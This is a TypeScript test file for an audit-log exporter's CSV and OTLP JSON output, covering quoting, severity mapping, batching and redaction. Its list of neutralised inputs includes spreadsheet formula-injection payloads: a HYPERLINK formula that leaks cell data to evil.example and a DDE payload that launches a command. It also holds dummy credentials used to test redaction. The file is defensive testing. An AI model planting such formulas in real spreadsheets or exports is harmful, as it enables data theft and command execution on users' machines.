import { assert, assertEquals, assertMatch, assertStringIncludes } from "@std/assert";
import fc from "fast-check";
import type { RecordStatus } from "../../src/core/action.ts";
import { CSV_HEADER, toCsv, toOtlpJson } from "../../src/log/export.ts";
import type { AuditRecord } from "../../src/core/record/record.ts";
import { VERSION } from "../../src/version.ts";
import { sealedRecords } from "../core/record/sealed_lines.ts";
import { run, Workspace } from "../workspace.ts";

const [FULL] = sealedRecords([{
  timestamp: "2026-01-31T12:00:00.123Z",
  action: "fs.read",
  target: '/data/a, "b"',
  status: "FAILED",
  error: "File\nnot found",
  duration_ms: 1.25,
  record_id: "r1",
  undoes: "r0",
  permit: "p1",
  agent: "a1",
  rule: "capabilities[0]",
  code: "NOT_FOUND",
  params: "cd".repeat(32),
  params_values: { a: [1] },
  target_digest: "ef".repeat(32),
  stages: { limits: { left: 3 } },
}]);

function full(): AuditRecord {
  assert(FULL !== undefined);
  return FULL;
}

Deno.test("CSV_HEADER names every field of a record, in the order of the log", () => {
  assertEquals(CSV_HEADER, Object.keys(full()).join(","));
});

Deno.test("toCsv() quotes what holds commas, quotes and line breaks", () => {
  assertEquals(
    toCsv(full()),
    '2026-01-31T12:00:00.123Z,fs.read,"/data/a, ""b""",FAILED,"File\nnot found",1.25,r1,r0,p1,0,a1,' +
      `capabilities[0],NOT_FOUND,${"ab".repeat(32)},${"cd".repeat(32)},"{""a"":[1]}",${
        "ef".repeat(32)
      },"{""limits"":{""left"":3}}",${"0".repeat(64)},${full().hash}`,
  );
});

Deno.test("toCsv() leaves absent fields empty", () => {
  const [record] = sealedRecords([{}]);
  assert(record !== undefined);
  assertEquals(
    toCsv(record),
    `2026-01-31T12:00:00.000Z,fs.read,/data/0,OK,,,,,,0,,,,${"ab".repeat(32)},,,,,${
      "0".repeat(64)
    },` +
      record.hash,
  );
});

const FORMULAS = [
  ...["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "\0=1", "＝1", "＋1", "－1", "＠1"],
  ...['=HYPERLINK("https://evil.example/?"&A1)', "=cmd|' /C calc'!A0", '=1,"x"'],
];
for (const target of FORMULAS) {
  Deno.test(`toCsv() makes no formula of ${JSON.stringify(target)}`, () => {
    assertEquals(parseCsv(toCsv({ ...full(), target }))[0]?.[2], `'${target}`);
  });
}

for (const target of ["/a=1", "a-b", "'=1", "https://x/?a=+1", " =1", "1", ""]) {
  Deno.test(`toCsv() leaves ${JSON.stringify(target)} as it is`, () => {
    assertEquals(parseCsv(toCsv({ ...full(), target }))[0]?.[2], target);
  });
}

/** Reads CSV by the grammar of RFC 4180. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [[]];
  const field = /(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n|$)/gy;
  while (field.lastIndex < text.length) {
    const match = field.exec(text);
    assert(match !== null, `not CSV: ${text}`);
    rows.at(-1)?.push(match[1]?.replaceAll('""', '"') ?? match[2] ?? "");
    if (match[3] === "\r\n") rows.push([]);
  }
  return rows;
}

const TEXT = fc.oneof(
  fc.string({ unit: "grapheme" }),
  fc.array(fc.constantFrom(...`",\r\n'=+-@ a;\t＝`)).map((chars) => chars.join("")),
);

Deno.test("toCsv() writes what a reader of RFC 4180 reads", () => {
  fc.assert(fc.property(TEXT, TEXT, TEXT, (target, error, agent) => {
    const [row = [], ...more] = parseCsv(toCsv({ ...full(), target, error, agent }));
    assertEquals([more, row.length], [[], 20]);
    for (const [i, text] of [[2, target], [4, error], [10, agent]] as const) {
      assertEquals(row[i], /^[=+\-@\t\r\n\0＝＋－＠]/.test(text) ? `'${text}` : text);
    }
  }));
});

Deno.test("toCsv() writes what Python's csv module reads", () => {
  using ws = new Workspace();
  const targets = ['a"b', "a,b", "a\nb", "a\r\nb", '""', ",", "'", "ä😀", '=1,"x"', "a;b"];
  const rows = targets.map((target) => toCsv({ ...full(), target }));
  const path = ws.file("log.csv", [CSV_HEADER, ...rows].map((row) => `${row}\r\n`).join(""));
  const program = "import csv,json,sys;print(json.dumps([r['target'] for r in " +
    "csv.DictReader(open(sys.argv[1],newline='',encoding='utf-8'),strict=True)]))";
  assertEquals(
    JSON.parse(run("python3", "-c", program, path)),
    targets.map((target) => target.startsWith("=") ? `'${target}` : target),
  );
});

// deno-lint-ignore no-explicit-any -- JSON that the test takes apart
async function otlp(records: readonly AuditRecord[]): Promise<any[]> {
  const lines = await Array.fromAsync(toOtlpJson(records));
  for (const line of lines) assert(!line.includes("\n"));
  return lines.map((line) => JSON.parse(line));
}

Deno.test("toOtlpJson() writes a request in the JSON encoding of OTLP", async () => {
  const text = (key: string, stringValue: string) => ({ key, value: { stringValue } });
  assertEquals(await otlp([full()]), [{
    resourceLogs: [{
      resource: { attributes: [text("service.name", "agent-kernel")] },
      scopeLogs: [{
        scope: { name: "agent-kernel", version: VERSION },
        logRecords: [{
          timeUnixNano: "1769860800123000000",
          observedTimeUnixNano: "1769860800123000000",
          severityNumber: 17,
          severityText: "ERROR",
          body: { stringValue: 'FAILED fs.read /data/a, "b": File\nnot found' },
          attributes: [
            text("agent_kernel.action", "fs.read"),
            text("agent_kernel.target", '/data/a, "b"'),
            text("agent_kernel.status", "FAILED"),
            text("agent_kernel.error", "File\nnot found"),
            { key: "agent_kernel.duration_ms", value: { doubleValue: 1.25 } },
            text("agent_kernel.record_id", "r1"),
            text("agent_kernel.undoes", "r0"),
            text("agent_kernel.permit", "p1"),
            { key: "agent_kernel.seq", value: { intValue: "0" } },
            text("agent_kernel.agent", "a1"),
            text("agent_kernel.rule", "capabilities[0]"),
            text("agent_kernel.code", "NOT_FOUND"),
            text("agent_kernel.policy", "ab".repeat(32)),
            text("agent_kernel.params", "cd".repeat(32)),
            text("agent_kernel.params_values", '{"a":[1]}'),
            text("agent_kernel.target_digest", "ef".repeat(32)),
            text("agent_kernel.stages", '{"limits":{"left":3}}'),
            text("agent_kernel.prev", "0".repeat(64)),
            text("agent_kernel.hash", full().hash),
          ],
        }],
      }],
    }],
  }]);
});

const SEVERITIES: readonly (readonly [RecordStatus, number, string])[] = [
  ["OK", 9, "INFO"],
  ["INVALID", 13, "WARN"],
  ["DENIED", 13, "WARN"],
  ["NO_PROVIDER", 17, "ERROR"],
  ["FAILED", 17, "ERROR"],
  ["INTERRUPTED", 17, "ERROR"],
  ["LATER" as RecordStatus, 0, "LATER"],
];
for (const [status, number, text] of SEVERITIES) {
  Deno.test(`toOtlpJson() gives ${status} the severity ${number} ${text}`, async () => {
    const [request] = await otlp([{ ...full(), status }]);
    const { severityNumber, severityText } = request.resourceLogs[0].scopeLogs[0].logRecords[0];
    assertEquals([severityNumber, severityText], [number, text]);
  });
}

for (const [count, sizes] of [[0, []], [1, [1]], [512, [512]], [1100, [512, 512, 76]]] as const) {
  Deno.test(`toOtlpJson() puts ${count} records into requests of ${sizes.join(", ") || "none"}`, async () => {
    const requests = await otlp(sealedRecords(Array.from({ length: count }, () => ({}))));
    const records = requests.map((one) => one.resourceLogs[0].scopeLogs[0].logRecords);
    assertEquals(records.map(({ length }) => length), [...sizes]);
    assertEquals(
      records.flat().map(({ attributes }) => attributes[3].value),
      Array.from({ length: count }, (_, i) => ({ intValue: String(i) })),
    );
  });
}

Deno.test("toOtlpJson() reads no further than it has to", async () => {
  let read = 0;
  async function* endless(): AsyncGenerator<AuditRecord> {
    for (;;) {
      read++;
      yield await Promise.resolve(full());
    }
  }
  const requests = toOtlpJson(endless());
  await requests.next();
  await requests.return(undefined);
  assertEquals(read, 512);
});

Deno.test("toCsv() lets no secret out", () => {
  const row = toCsv({ ...full(), target: "https://bob:hunter2@host/", error: "Bearer abc123" });
  assertStringIncludes(row, ",https://bob:[redacted]@host/,FAILED,Bearer [redacted],");
});

Deno.test("toOtlpJson() lets no secret, no lone surrogate and no endless body out", async () => {
  const key = "ghp_0123456789abcdefghijklmnopqrstuvwxyz";
  const target = `https://bob:hunter2@host/${"x".repeat(500)}\ud800`;
  const [line = ""] = await Array.fromAsync(
    toOtlpJson([{ ...full(), target, error: `Bearer ${key}`, agent: key }]),
  );
  for (const secret of [key, "hunter2", "\\ud800"]) assert(!line.includes(secret), secret);
  assertStringIncludes(line, "bob:[redacted]@host");
  const { body } = JSON.parse(line).resourceLogs[0].scopeLogs[0].logRecords[0];
  assertEquals(body.stringValue.length, 256);
});

Deno.test("toOtlpJson() says that a time is unknown if it cannot be read", async () => {
  const [request] = await otlp([{ ...full(), timestamp: "yesterday" }]);
  assertEquals(request.resourceLogs[0].scopeLogs[0].logRecords[0].timeUnixNano, "0");
});

Deno.test("toOtlpJson() uses only names of the OTLP schema, in lowerCamelCase", async () => {
  const keys = new Set<string>();
  JSON.stringify(await otlp([full()]), (key, value) => {
    if (key !== "" && !/^\d+$/.test(key)) keys.add(key);
    return value;
  });
  for (const key of keys) assertMatch(key, /^[a-z]+(?:[A-Z][a-z]+)*$/);
});
